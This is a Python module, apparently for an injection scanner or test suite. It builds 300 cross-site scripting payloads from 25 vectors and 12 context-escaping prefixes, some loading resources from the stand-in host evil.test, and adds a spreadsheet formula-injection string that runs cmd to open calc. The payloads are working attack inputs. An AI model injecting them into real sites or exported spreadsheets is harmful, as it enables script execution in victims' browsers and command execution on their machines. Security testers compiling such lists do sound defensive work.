"""What somebody types who wants a page to run it: 25 vectors behind 12 ways out of where the text stands."""

from __future__ import annotations

#: Each leaves an element or attribute ``x11`` behind if a page takes it for markup, and most call ``alert``.
VECTORS = (
    "<img x11 src=x onerror=alert(1)>",
    "<svg x11 onload=alert(1)>",
    "<script x11>alert(1)</script>",
    '<iframe x11 srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<body x11 onload=alert(1)>",
    "<details x11 open ontoggle=alert(1)>x</details>",
    "<video x11><source onerror=alert(1)></video>",
    "<input x11 autofocus onfocus=alert(1)>",
    "<marquee x11 onstart=alert(1)>x</marquee>",
    '<a x11 href="javascript:alert(1)">x</a>',
    "<object x11 data=javascript:alert(1)></object>",
    "<embed x11 src=javascript:alert(1)>",
    "<form x11 action=javascript:alert(1)><button>x</button></form>",
    "<base x11 href=//evil.test/>",
    "<link x11 rel=stylesheet href=//evil.test/x.css>",
    "<style x11>@import '//evil.test/x.css';</style>",
    "<math x11><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<svg x11><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg x11><script>alert(1)</script></svg>",
    "<div x11 hx-get=/ hx-trigger=load>x</div>",
    "<div x11 hx-on:load=alert(1) hx-vals='js:{a:alert(1)}'>x</div>",
    "<IMG x11 SRC=x OnErRoR=alert`1`>",
    "<textarea x11 autofocus onfocus=alert(1)></textarea>",
    "{{7*7}}{% now 'Y' %}${alert(1)}<x11>",
    "\\u003cimg x11 src=x onerror=alert(1)\\u003e&lt;img x11 src=x onerror=alert(1)&gt;<x11>",
)
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "]]>",
    '" x11 onmouseover=alert(1) autofocus onfocus=alert(1) y="',
    "' x11 onmouseover=alert(1) autofocus onfocus=alert(1) y='",
)
PAYLOADS = [out + vector for out in WAYS_OUT for vector in VECTORS]
#: The shortest that still says everything, for short columns; the longest that fits is taken.
SHORT = ('"><img x11 src=x onerror=alert(1)>', "<svg x11 onload=alert(1)>", "<b x11>")


def fitting(room: int) -> str:
    """The strongest payload that a column of that many characters holds."""
    return next((one for one in SHORT if len(one) <= room), "")


#: Beginnings that some spreadsheet reads as a formula, each before a formula that would run a program.
PREFIXES = {"=": "=", "+": "+", "-": "-", "@": "@", "TAB": "\t=", "NUL": "\x00="}
FORMULA = "1+cmd|' /C calc'!A0"
